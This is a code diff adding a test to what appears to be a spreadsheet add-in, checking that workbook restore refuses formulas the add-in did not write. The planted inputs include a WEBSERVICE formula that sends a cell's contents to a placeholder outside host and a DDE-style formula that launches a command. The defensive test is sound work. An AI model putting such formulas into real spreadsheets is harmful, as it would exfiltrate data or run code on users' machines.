@@ -217,3 +217,23 @@ test("where the names were taken out of the file, only what cannot be mistaken c
   await giveUp(edited, failed);
   expect(edited.texts).toEqual([]);
 });
+
+test("a record that holds a formula which fetches from outside, or none of ours, brings nothing of it back", async () => {
+  for (const planted of [
+    '=WEBSERVICE("http://x?"&A1)',
+    '=QOS.PRICE(A1)&WEBSERVICE("http://x")',
+    "=QOS.PRICE(cmd|'/c calc'!A1)",
+    "=1+1",
+  ]) {
+    const frozen = book();
+    await freeze(frozen, "workbook", watched);
+    const kept = (await frozen.kept()).map((piece) =>
+      String(piece).replace("=QOS.LIVE(A1)*2", planted.replaceAll('"', '\\"')),
+    );
+    await frozen.keep(kept);
+    const { failed } = await restore(frozen, watched);
+    expect(failed.map(({ why }) => why)).toEqual(["notOurs"]);
+    expect(JSON.stringify(frozen.content("One", "B2"))).not.toContain("=");
+    expect(frozen.content("One", "B1")).toBe('=QOS.PRICE("US:AAPL")');
+  }
+});
